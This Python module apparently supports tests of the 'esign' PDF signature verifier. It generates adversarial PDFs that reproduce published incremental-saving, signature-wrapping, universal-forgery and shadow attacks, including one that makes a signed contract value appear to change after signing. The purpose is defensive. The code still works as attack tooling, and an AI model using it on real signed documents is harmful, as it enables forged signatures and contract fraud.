"""Generators for the published attacks on PDF signatures, and for plain tampering.

Each public function writes one adversarial file and is named after what it
reproduces; ``tests/test_attacks.py`` runs them against letters signed by esign and
by an independent signer and asserts esign's verdict. Nothing here asserts anything.

The attack classes (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019; Mainka et
al., "Shadow Attacks", NDSS 2021):

* **ISA**, incremental saving attack: an update appended after the signature changes
  what the page shows. Variants hide the update from a strict reader: no
  cross-reference section at all, an empty one, or one with garbage offsets, which
  viewers repair and then display anyway.
* **SWA**, signature wrapping: the signed second part of the byte range is moved to
  the end of the file and new objects are put into the space left unsigned, with a
  signature dictionary whose /ByteRange points at the moved part.
* **USF**, universal signature forgery: a signature dictionary the attacker wrote
  without any key: /Contents empty or zeros, /ByteRange missing, zero, overlapping
  or out of bounds, a /SubFilter that does not match the CMS, or a CMS lifted from
  another document.
* **Shadow** attacks: content prepared *before* signing (an overlay form field, an
  unused content stream, optional content, an annotation) and activated after
  signing by an update that only touches what looks "allowed": a form field value,
  an annotation appearance, /OCProperties visibility, a page's /Contents pointer.

The ``prepare_*`` functions build the harmless-looking original that the victim
signs; the attack function of the same family then works on the signed result.

Every file is built with pyHanko's writer API or with raw byte edits; no attack tool
is downloaded. TEST-ONLY: these files are meant to fool verifiers.
"""

from __future__ import annotations

import re
import zlib
from pathlib import Path
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

__all__ = [
    "SHADOW_TEXT",
    "SIGNED_TEXT",
    "add_annotation",
    "byte_range_edited_to_skip_bytes",
    "certify",
    "cms_of",
    "content_stream_replaced_in_place",
    "fill_empty_field",
    "flip_byte_in_signed_range",
    "isa_empty_xref",
    "isa_malformed_xref",
    "isa_redefine_content_stream",
    "isa_replace_page_content",
    "isa_update_without_xref",
    "prepare_empty_form_field",
    "prepare_shadow_annotation",
    "prepare_shadow_form",
    "prepare_shadow_hide_and_replace",
    "prepare_shadow_ocg",
    "second_signature_cms_swapped",
    "shadow_hide",
    "shadow_hide_and_replace",
    "shadow_hide_via_ocg",
    "shadow_replace",
    "shadow_replace_annotation_appearance",
    "sign_as",
    "swa_relocated_signed_part",
    "usf_byte_range_missing",
    "usf_byte_range_out_of_bounds",
    "usf_byte_range_overlapping",
    "usf_byte_range_zero",
    "usf_contents_empty",
    "usf_contents_zeros",
    "usf_foreign_cms",
    "usf_wrong_subfilter",
]

SIGNED_TEXT = "Nilai kontrak: Rp 1.000.000"
"""What the signer sees (and signs) in the shadow-attack originals."""
SHADOW_TEXT = "Nilai kontrak: Rp 9.000.000.000"
"""What the attacker wants the reader to see after signing."""

_BOX = (60.0, 90.0, 420.0, 120.0)
"""Where the shadow content sits on page 1 (x1, y1, x2, y2), away from the letter text."""

_SIG_DICT = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


# --- signing as anyone ---------------------------------------------------------------


def sign_as(
    key: Any,
    cert: Any,
    src: Path,
    dst: Path,
    *,
    chain: tuple[Any, ...] = (),
    md: str = "sha256",
    subfilter: Any = None,
    field: str = "Signature1",
    signed_attrs: Any = None,
) -> None:
    """Sign ``src`` with pyHanko's SimpleSigner as any cryptography key and certificate,
    including ones esign's own signing refuses (a CA key, a server certificate);
    ``signed_attrs``: a pyHanko SignedAttributeProviderSpec replacing the usual ones."""
    from asn1crypto import keys
    from asn1crypto import x509 as ax
    from cryptography.hazmat.primitives import serialization
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    der = serialization.Encoding.DER
    pkcs8 = key.private_bytes(der, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    signer = signers.SimpleSigner(
        signing_cert=ax.Certificate.load(cert.public_bytes(der)),
        signing_key=keys.PrivateKeyInfo.load(pkcs8),
        cert_registry=SimpleCertificateStore.from_certs(
            [ax.Certificate.load(c.public_bytes(der)) for c in chain]
        ),
    )
    if signed_attrs is not None:
        signer.signed_attr_prov_spec = signed_attrs
    extra = {"subfilter": subfilter} if subfilter is not None else {}
    meta = signers.PdfSignatureMetadata(field_name=field, md_algorithm=md, **extra)
    with src.open("rb") as fh, dst.open("wb") as out:
        signers.sign_pdf(IncrementalPdfFileWriter(fh), meta, signer=signer, output=out)


# --- small helpers -------------------------------------------------------------------


def _open(src: Path) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(src.open("rb"))


def _save(writer: IncrementalPdfFileWriter, dst: Path) -> None:
    with dst.open("wb") as out:
        writer.write(out)
    writer.prev.stream.close()


def _page(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
    """Page 1 as (reference, dictionary)."""
    ref = writer.root["/Pages"].raw_get("/Kids")[0]
    return ref, ref.get_object()


def _stream(writer: IncrementalPdfFileWriter, data: bytes, **entries: Any) -> Any:
    obj = generic.StreamObject({pdf_name(f"/{k}"): v for k, v in entries.items()}, data)
    return writer.add_object(obj)


def _rect(box: tuple[float, ...] = _BOX) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in box])


def _text_ops(text: str, *, white_box: bool) -> bytes:
    """A (white-backed) line of Helvetica text in a form XObject of size _BOX."""
    w, h = _BOX[2] - _BOX[0], _BOX[3] - _BOX[1]
    box = f"1 1 1 rg 0 0 {w} {h} re f " if white_box else ""
    return f"{box}0 g BT /F1 14 Tf 6 9 Td ({text}) Tj ET".encode()


def _helvetica(writer: IncrementalPdfFileWriter) -> Any:
    return writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
                pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
            }
        )
    )


def _appearance(writer: IncrementalPdfFileWriter, ops: bytes, font: Any) -> Any:
    w, h = _BOX[2] - _BOX[0], _BOX[3] - _BOX[1]
    return _stream(
        writer,
        ops,
        Type=pdf_name("/XObject"),
        Subtype=pdf_name("/Form"),
        BBox=_rect((0, 0, w, h)),
        Resources=generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
        ),
    )


def _append_contents(writer: IncrementalPdfFileWriter, page: Any, ops: bytes) -> None:
    """Draw ``ops`` after the page's own content (page 1)."""
    old = page.raw_get("/Contents")
    old_list = list(old) if isinstance(old, generic.ArrayObject) else [old]
    page["/Contents"] = generic.ArrayObject([*old_list, _stream(writer, ops)])


def _page_font(writer: IncrementalPdfFileWriter, page: Any) -> Any:
    """Make sure /F1 in the page resources is Helvetica; return its reference."""
    font = _helvetica(writer)
    resources = page["/Resources"]
    fonts = generic.DictionaryObject(dict(resources["/Font"].items()))
    fonts[pdf_name("/FShadow")] = font
    resources[pdf_name("/Font")] = fonts
    return font


def _trailer_facts(data: bytes) -> tuple[int, bytes, int]:
    """(/Size, the /Root reference as written, the last startxref) of a file."""
    reader = PdfFileReader(_bytes_io(data), strict=False)
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root")
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return size, f"{root.idnum} {root.generation} R".encode(), startxref


def _bytes_io(data: bytes) -> Any:
    import io

    return io.BytesIO(data)


def _content_ref(data: bytes) -> tuple[int, int]:
    """Object and generation number of page 1's (first) content stream."""
    reader = PdfFileReader(_bytes_io(data), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    return contents.idnum, contents.generation


def _raw_stream(num: int, gen: int, ops: bytes) -> bytes:
    return (
        f"{num} {gen} obj\n<< /Length {len(ops)} >>\nstream\n".encode()
        + ops
        + b"\nendstream\nendobj\n"
    )


def _xref_entries(data: bytes, at: int) -> dict[int, tuple[int, int]]:
    """The in-use entries of the classic cross-reference section at offset ``at``."""
    end = data.index(b"trailer", at)
    lines = data[at:end].split(b"\n")[1:]
    entries: dict[int, tuple[int, int]] = {}
    num = 0
    for line in (x.strip() for x in lines):
        parts = line.split()
        if len(parts) == 2:
            num = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                entries[num] = (int(parts[0]), int(parts[1]))
            num += 1
    return entries


def _last_signature(data: bytes) -> tuple[list[int], int, int]:
    """The last signature's byte range and where its /Contents hex digits start and end."""
    found = list(_SIG_DICT.finditer(data))
    br = [int(x) for x in found[-1].groups()]
    return br, br[1] + 1, br[2] - 1


def _replace_same_length(data: bytes, start: int, end: int, new: bytes) -> bytes:
    if len(new) > end - start:
        raise ValueError("replacement longer than the original")
    return data[:start] + new.ljust(end - start, b" ") + data[end:]


def cms_of(signed: Path) -> bytes:
    """The DER CMS of the last signature in ``signed`` (trailing zero padding removed)."""
    data = signed.read_bytes()
    _, start, end = _last_signature(data)
    from asn1crypto import cms

    raw = bytes.fromhex(data[start:end].decode())
    return bytes(cms.ContentInfo.load(raw, strict=False).dump())


# --- tampering -----------------------------------------------------------------------


def flip_byte_in_signed_range(src: Path, dst: Path) -> None:
    """One bit flipped in the middle of the first signed part (HASH_FAILURE)."""
    data = bytearray(src.read_bytes())
    br, _, _ = _last_signature(bytes(data))
    data[br[1] // 2] ^= 0x01
    dst.write_bytes(bytes(data))


def content_stream_replaced_in_place(src: Path, dst: Path) -> None:
    """Page 1's content stream bytes overwritten in place (same length, no update)."""
    data = src.read_bytes()
    num, gen = _content_ref(data)
    m = re.search(rb"(?<!\d)%d %d obj.*?stream\r?\n" % (num, gen), data, re.S)
    assert m is not None
    start = m.end()
    end = data.index(b"endstream", start)
    ops = zlib.compress(f"BT /F1 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode())
    dst.write_bytes(data[:start] + ops.ljust(end - start, b"\n") + data[end:])


def byte_range_edited_to_skip_bytes(src: Path, dst: Path) -> None:
    """The /ByteRange rewritten in place so that the second part skips its first 64 bytes."""
    data = src.read_bytes()
    m = list(_SIG_DICT.finditer(data))[-1]
    a, b, c, d = (int(x) for x in m.groups())
    new = f"/ByteRange [{a} {b} {c + 64} {d - 64}]".encode()
    dst.write_bytes(_replace_same_length(data, m.start(), m.end(), new))


def second_signature_cms_swapped(src: Path, donor: Path, dst: Path) -> None:
    """The last signature's /Contents replaced by the CMS of ``donor``'s last signature.

    The donor is a genuine signature by the same signer over another document.
    """
    data = src.read_bytes()
    _, start, end = _last_signature(data)
    hexits = cms_of(donor).hex().encode()
    if len(hexits) > end - start:
        raise ValueError("the donor CMS does not fit")
    dst.write_bytes(data[:start] + hexits.ljust(end - start, b"0") + data[end:])


def add_annotation(src: Path, dst: Path) -> None:
    """An incremental update adding a FreeText annotation over the letter (page 1)."""
    writer = _open(src)
    page_ref, page = _page(writer)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _rect((100, 600, 400, 650)),
            pdf_name("/Contents"): generic.TextStringObject("Sudah diterima"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
            pdf_name("/P"): page_ref,
        }
    )
    annots = page.get("/Annots") or generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annots, writer.add_object(annot)])
    writer.update_container(page)
    _save(writer, dst)


def certify(src: Path, dst: Path, key: Any, *, level: int) -> None:
    """Certify ``src`` (DocMDP level 1, 2 or 3) with an esign key object, through pyHanko."""
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter

    perms = {1: MDPPerm.NO_CHANGES, 2: MDPPerm.FILL_FORMS, 3: MDPPerm.ANNOTATE}[level]
    meta = signers.PdfSignatureMetadata(
        field_name="Certification",
        certify=True,
        docmdp_permissions=perms,
        subfilter=SigSeedSubFilter.PADES,
        md_algorithm="sha256",
    )
    writer = _open(src)
    with dst.open("wb") as out:
        signers.PdfSigner(meta, signer=key.pyhanko_signer()).sign_pdf(writer, output=out)
    writer.prev.stream.close()


# --- incremental saving attacks ------------------------------------------------------


def isa_replace_page_content(src: Path, dst: Path) -> None:
    """ISA: a well-formed update points page 1 at a new content stream with other text."""
    writer = _open(src)
    _, page = _page(writer)
    ops = f"BT /F1 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode()
    page["/Contents"] = _stream(writer, ops)
    writer.update_container(page)
    _save(writer, dst)


def isa_redefine_content_stream(src: Path, dst: Path) -> None:
    """ISA: a well-formed update redefines page 1's content stream under its own number."""
    data = src.read_bytes()
    num, gen = _content_ref(data)
    writer = _open(src)
    ops = f"BT /F1 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode()
    writer.objects[(gen, num)] = generic.StreamObject(stream_data=ops)
    _save(writer, dst)


def _isa_raw(src: Path, dst: Path, tail: bytes | None) -> None:
    """Append a redefinition of page 1's content stream, then ``tail`` (xref part)."""
    data = src.read_bytes()
    num, gen = _content_ref(data)
    ops = f"BT /F1 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode()
    body_at = len(data) + 1
    body = b"\n" + _raw_stream(num, gen, ops)
    if tail is None:
        dst.write_bytes(data + body + b"%%EOF\n")
        return
    size, root, prev = _trailer_facts(data)
    xref_at = body_at + len(body) - 1
    tail = tail.replace(b"@OFFSET@", b"%010d" % body_at).replace(b"@NUM@", b"%d" % num)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        prev,
        xref_at,
    )
    dst.write_bytes(data + body + tail + trailer)


def isa_update_without_xref(src: Path, dst: Path) -> None:
    """ISA variant: the redefined content stream is appended with no xref and no trailer.

    Strict readers ignore it; viewers that rebuild the cross-reference table show it.
    """
    _isa_raw(src, dst, None)


def isa_empty_xref(src: Path, dst: Path) -> None:
    """ISA variant: the update's cross-reference section has no entries at all."""
    _isa_raw(src, dst, b"xref\n")


def isa_malformed_xref(src: Path, dst: Path) -> None:
    """ISA variant: the update's cross-reference section lists the object at a wrong offset."""
    _isa_raw(src, dst, b"xref\n@NUM@ 1\n00000000xx 00000 n \n")


# --- signature wrapping --------------------------------------------------------------


def swa_relocated_signed_part(src: Path, dst: Path) -> None:
    """SWA: the signed second part moves to the end; new objects fill the unsigned gap.

    The new cross-reference section sits exactly where the old one was (the moved part
    still ends with the old ``startxref``), and redefines the signature dictionary with
    a /ByteRange that points at the moved part, and page 1's content stream.
    """
    data = src.read_bytes()
    (a, b, c, d), _, _ = _last_signature(data)
    _, root, xref_old = _trailer_facts(data)
    reader = PdfFileReader(_bytes_io(data), strict=False)
    prev = int(reader.trailer["/Prev"]) if "/Prev" in reader.trailer else None
    size = int(reader.trailer["/Size"])
    # The signature dictionary object, as written: from its "N G obj" to "endobj".
    head = data.rfind(b" obj", 0, b)
    num_start = data.rfind(b"\n", 0, head) + 1
    sig_num, sig_gen = (int(x) for x in data[num_start:head].split())
    sig_obj_text = data[num_start : data.index(b"endobj", c) + len(b"endobj")]
    content_num, content_gen = _content_ref(data)
    ops = f"BT /F1 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode()

    moved = data[c:]
    # Layout: P1 | original <hex> | the old second part up to its xref, unchanged (its
    # objects keep their offsets) | new xref at the old xref's offset | malicious objects
    # | the moved second part (which still ends with "startxref xref_old %%EOF").
    if xref_old < c:
        raise ValueError("the old cross-reference section is not after the signature")
    entries = _xref_entries(data, xref_old)
    new_c_placeholder = b"9999999999"
    new_sig = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [%d %d %s %d]" % (a, b, new_c_placeholder, d),
        sig_obj_text,
        count=1,
    )
    bodies = {
        content_num: (content_gen, _raw_stream(content_num, content_gen, ops)),
        sig_num: (sig_gen, new_sig + b"\n"),
    }
    prev_part = b" /Prev %d" % prev if prev is not None else b""
    trailer = b"trailer\n<< /Size %d /Root %s%s >>\n" % (size, root, prev_part)
    numbers = sorted(set(entries) | set(bodies))
    xref_len = len(b"xref\n") + sum(len(b"%d 1\n" % n) + 20 for n in numbers) + len(trailer)
    offset = xref_old + xref_len
    for num, (gen, body) in sorted(bodies.items()):
        entries[num] = (offset, gen)
        offset += len(body)
    xref = b"xref\n" + b"".join(
        b"%d 1\n%010d %05d n \n" % (n, entries[n][0], entries[n][1]) for n in numbers
    )
    out = bytearray(data[:xref_old]) + xref + trailer
    assert len(out) == xref_old + xref_len
    for _num, (_gen, body) in sorted(bodies.items()):
        out += body
    out += b"%" + b" " * 15
    new_c = len(out)
    out += moved
    patched = bytes(out).replace(new_c_placeholder, b"%10d" % new_c, 1)
    dst.write_bytes(patched)


# --- universal signature forgery -------------------------------------------------------


def _usf(letter: Path, dst: Path, *, contents: bytes, subfilter: str, byte_range: str) -> None:
    """A signature field and dictionary written without a key onto an unsigned letter.

    ``byte_range`` is a template: ``{a} {b} {c} {d}`` are the honest values, ``{n}`` the
    file length; ``""`` leaves /ByteRange out.
    """
    writer = _open(letter)
    page_ref, page = _page(writer)
    sig = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Sig"),
            pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name(subfilter),
            pdf_name("/M"): generic.TextStringObject("D:20261125000000Z"),
            pdf_name("/Contents"): generic.ByteStringObject(b"\xab" * len(contents)),
        }
    )
    if byte_range:
        sig[pdf_name("/ByteRange")] = generic.ArrayObject(
            [generic.NumberObject(8888888888) for _ in range(4)]
        )
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): generic.TextStringObject("Signature1"),
            pdf_name("/V"): writer.add_object(sig),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect((0, 0, 0, 0)),
            pdf_name("/F"): generic.NumberObject(132),
            pdf_name("/P"): page_ref,
        }
    )
    field_ref = writer.add_object(field)
    annots = page.get("/Annots") or generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annots, field_ref])
    writer.update_container(page)
    writer.root["/AcroForm"] = generic.DictionaryObject(
        {
            pdf_name("/Fields"): generic.ArrayObject([field_ref]),
            pdf_name("/SigFlags"): generic.NumberObject(3),
        }
    )
    writer.update_root()
    _save(writer, dst)
    data = dst.read_bytes()
    placeholder = b"<" + b"ab" * len(contents) + b">"
    start = data.index(placeholder)
    end = start + len(placeholder)
    data = data[:start] + b"<" + contents.hex().encode() + b">" + data[end:]
    if byte_range:
        m = re.search(rb"\[\s*8888888888 8888888888 8888888888 8888888888\s*\]", data)
        assert m is not None
        values = byte_range.format(a=0, b=start, c=end, d=len(data) - end, n=len(data))
        data = _replace_same_length(data, m.start(), m.end(), f"[{values}]".encode())
    dst.write_bytes(data)


def usf_contents_empty(letter: Path, dst: Path) -> None:
    """USF: /Contents is an empty string."""
    _usf(letter, dst, contents=b"", subfilter="/ETSI.CAdES.detached", byte_range="{a} {b} {c} {d}")


def usf_contents_zeros(letter: Path, dst: Path) -> None:
    """USF: /Contents is 8 KiB of zero bytes, as an unsigned placeholder looks."""
    _usf(
        letter,
        dst,
        contents=bytes(8192),
        subfilter="/ETSI.CAdES.detached",
        byte_range="{a} {b} {c} {d}",
    )


def usf_byte_range_missing(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: a real CMS from elsewhere, but no /ByteRange at all."""
    _usf(letter, dst, contents=cms, subfilter="/ETSI.CAdES.detached", byte_range="")


def usf_byte_range_zero(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: /ByteRange [0 0 0 0] (signs nothing)."""
    _usf(letter, dst, contents=cms, subfilter="/ETSI.CAdES.detached", byte_range="0 0 0 0")


def usf_byte_range_overlapping(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: the second range starts inside the first."""
    _usf(letter, dst, contents=cms, subfilter="/ETSI.CAdES.detached", byte_range="0 {b} 10 {d}")


def usf_byte_range_out_of_bounds(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: the second range runs 1000 bytes past the end of the file."""
    _usf(
        letter,
        dst,
        contents=cms,
        subfilter="/ETSI.CAdES.detached",
        byte_range="{a} {b} {c} {d}",
    )
    data = dst.read_bytes()
    m = list(_SIG_DICT.finditer(data))[-1]
    a, b, c, d = (int(x) for x in m.groups())
    new = f"/ByteRange [{a} {b} {c} {d + 1000}]".encode()
    dst.write_bytes(_replace_same_length(data, m.start(), m.end() + 2, new))


def usf_wrong_subfilter(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: a CMS blob declared as /adbe.x509.rsa_sha1 (a bare PKCS#1 value)."""
    _usf(letter, dst, contents=cms, subfilter="/adbe.x509.rsa_sha1", byte_range="{a} {b} {c} {d}")


def usf_foreign_cms(letter: Path, dst: Path, cms: bytes) -> None:
    """USF: a well-formed signature dictionary carrying a CMS from another document."""
    _usf(letter, dst, contents=cms, subfilter="/ETSI.CAdES.detached", byte_range="{a} {b} {c} {d}")


# --- shadow attacks ------------------------------------------------------------------


def prepare_shadow_form(letter: Path, dst: Path) -> None:
    """Shadow original: SHADOW_TEXT in the page content, under a filled text field.

    The field "nilai" holds SIGNED_TEXT and its appearance is an opaque white box that
    covers the shadow text: the signer sees SIGNED_TEXT.
    """
    writer = _open(letter)
    page_ref, page = _page(writer)
    font = _page_font(writer, page)
    x, y = _BOX[0] + 6, _BOX[1] + 9
    _append_contents(writer, page, f"BT /FShadow 14 Tf {x} {y} Td ({SHADOW_TEXT}) Tj ET".encode())
    ap = _appearance(writer, _text_ops(SIGNED_TEXT, white_box=True), font)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject("nilai"),
            pdf_name("/V"): generic.TextStringObject(SIGNED_TEXT),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect(),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
        }
    )
    field_ref = writer.add_object(field)
    page["/Annots"] = generic.ArrayObject([field_ref])
    writer.update_container(page)
    writer.root["/AcroForm"] = generic.DictionaryObject(
        {
            pdf_name("/Fields"): generic.ArrayObject([field_ref]),
            pdf_name("/DR"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
            ),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
        }
    )
    writer.update_root()
    _save(writer, dst)


def _fill_field(src: Path, dst: Path, name: str, value: str, ops: bytes) -> None:
    writer = _open(src)
    fields = writer.root["/AcroForm"]["/Fields"]
    for ref in fields:
        field = ref.get_object()
        if str(field.get("/T")) == name:
            break
    else:
        raise LookupError(name)
    fonts = writer.root["/AcroForm"]["/DR"]["/Font"]
    field["/V"] = generic.TextStringObject(value)
    field["/AP"] = generic.DictionaryObject(
        {pdf_name("/N"): _appearance(writer, ops, fonts.raw_get("/F1"))}
    )
    writer.update_container(field)
    _save(writer, dst)


def shadow_hide(src: Path, dst: Path) -> None:
    """Shadow hide: "fill" the field with nothing; its empty appearance uncovers SHADOW_TEXT."""
    _fill_field(src, dst, "nilai", "", b"")


def shadow_replace(src: Path, dst: Path) -> None:
    """Shadow replace: "fill" the field with SHADOW_TEXT over the signed SIGNED_TEXT."""
    _fill_field(src, dst, "nilai", SHADOW_TEXT, _text_ops(SHADOW_TEXT, white_box=True))


def prepare_empty_form_field(letter: Path, dst: Path) -> None:
    """A legitimate form: an empty text field "catatan" for the recipient to fill in."""
    writer = _open(letter)
    page_ref, page = _page(writer)
    font = _helvetica(writer)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject("catatan"),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): _rect(),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
        }
    )
    field_ref = writer.add_object(field)
    page["/Annots"] = generic.ArrayObject([field_ref])
    writer.update_container(page)
    writer.root["/AcroForm"] = generic.DictionaryObject(
        {
            pdf_name("/Fields"): generic.ArrayObject([field_ref]),
            pdf_name("/DR"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
            ),
        }
    )
    writer.update_root()
    _save(writer, dst)


def fill_empty_field(src: Path, dst: Path) -> None:
    """Legitimate form filling: the empty field "catatan" gets a value and appearance."""
    _fill_field(src, dst, "catatan", "Diterima", _text_ops("Diterima", white_box=False))


def prepare_shadow_ocg(letter: Path, dst: Path) -> None:
    """Shadow original: SHADOW_TEXT covered by a white box in an optional content group.

    The group "Cover" is on by default, so the signer sees only the cover and the
    SIGNED_TEXT drawn on it.
    """
    writer = _open(letter)
    _, page = _page(writer)
    _page_font(writer, page)
    ocg = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/OCG"),
                pdf_name("/Name"): generic.TextStringObject("Cover"),
            }
        )
    )
    resources = page["/Resources"]
    resources[pdf_name("/Properties")] = generic.DictionaryObject({pdf_name("/oc1"): ocg})
    x, y = _BOX[0] + 6, _BOX[1] + 9
    w, h = _BOX[2] - _BOX[0], _BOX[3] - _BOX[1]
    ops = (
        f"BT /FShadow 14 Tf {x} {y} Td ({SHADOW_TEXT}) Tj ET "
        f"/OC /oc1 BDC 1 1 1 rg {_BOX[0]} {_BOX[1]} {w} {h} re f "
        f"0 g BT /FShadow 14 Tf {x} {y} Td ({SIGNED_TEXT}) Tj ET EMC"
    ).encode()
    _append_contents(writer, page, ops)
    writer.update_container(page)
    writer.root["/OCProperties"] = generic.DictionaryObject(
        {
            pdf_name("/OCGs"): generic.ArrayObject([ocg]),
            pdf_name("/D"): generic.DictionaryObject(
                {
                    pdf_name("/ON"): generic.ArrayObject([ocg]),
                    pdf_name("/Order"): generic.ArrayObject([ocg]),
                }
            ),
        }
    )
    writer.update_root()
    _save(writer, dst)


def shadow_hide_via_ocg(src: Path, dst: Path) -> None:
    """Shadow hide: switch the "Cover" group off in /OCProperties; SHADOW_TEXT shows."""
    writer = _open(src)
    props = writer.root["/OCProperties"]
    ocg = props["/OCGs"].raw_get(0)
    props["/D"] = generic.DictionaryObject(
        {
            pdf_name("/OFF"): generic.ArrayObject([ocg]),
            pdf_name("/Order"): generic.ArrayObject([ocg]),
        }
    )
    writer.update_root()
    _save(writer, dst)


def prepare_shadow_hide_and_replace(letter: Path, dst: Path) -> None:
    """Shadow original: an unused content stream (the shadow letter) sits in the file.

    Nothing references it, so the signer never sees it; it is still in the signed bytes.
    """
    writer = _open(letter)
    _, page = _page(writer)
    font = _page_font(writer, page)
    del font
    ops = f"BT /FShadow 24 Tf 72 720 Td ({SHADOW_TEXT}) Tj ET".encode()
    shadow = _stream(writer, ops)
    # Keep it out of every page; an unreferenced entry in the Info dictionary would do
    # too, but a bare object is what the paper uses.
    del shadow
    writer.update_container(page)
    _save(writer, dst)


def shadow_hide_and_replace(src: Path, dst: Path) -> None:
    """Shadow hide-and-replace: only page 1's /Contents pointer changes, to the shadow
    stream already present in the signed bytes. The update adds no new object."""
    writer = _open(src)
    reader = writer.prev
    target = None
    for num in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(generic.Reference(num, 0))
        except Exception:
            continue
        if isinstance(obj, generic.StreamObject) and SHADOW_TEXT.encode() in obj.data:
            target = generic.IndirectObject(num, 0, reader)
    if target is None:
        raise LookupError("no shadow stream")
    _, page = _page(writer)
    page["/Contents"] = target
    writer.update_container(page)
    _save(writer, dst)


def prepare_shadow_annotation(letter: Path, dst: Path) -> None:
    """Shadow original: a FreeText annotation showing SIGNED_TEXT with its own appearance."""
    writer = _open(letter)
    page_ref, page = _page(writer)
    font = _helvetica(writer)
    ap = _appearance(writer, _text_ops(SIGNED_TEXT, white_box=True), font)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _rect(),
            pdf_name("/Contents"): generic.TextStringObject(SIGNED_TEXT),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
        }
    )
    page["/Annots"] = generic.ArrayObject([writer.add_object(annot)])
    writer.update_container(page)
    _save(writer, dst)


def shadow_replace_annotation_appearance(src: Path, dst: Path) -> None:
    """Shadow replace: the existing annotation's appearance stream now shows SHADOW_TEXT."""
    writer = _open(src)
    _, page = _page(writer)
    annot = page["/Annots"][0]
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            }
        )
    )
    annot["/AP"] = generic.DictionaryObject(
        {pdf_name("/N"): _appearance(writer, _text_ops(SHADOW_TEXT, white_box=True), font)}
    )
    writer.update_container(annot)
    _save(writer, dst)


# --- covering the letter after signing (Evil Annotation / Sneaky Signature) -----------------

BODY_BOX = (60.0, 430.0, 540.0, 520.0)
"""Over the example letter's body text (page 1, PDF coordinates)."""
